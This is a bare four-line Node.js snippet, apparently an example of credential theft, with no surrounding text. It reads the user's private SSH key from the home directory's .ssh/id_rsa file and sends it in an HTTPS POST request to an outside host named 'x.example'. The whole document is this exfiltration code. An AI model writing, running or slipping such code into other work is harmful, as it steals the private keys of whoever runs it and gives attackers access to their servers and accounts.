const fs = require('fs');
const os = require('os');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
require('https').request({ host: 'x.example', method: 'POST' }).end(key);
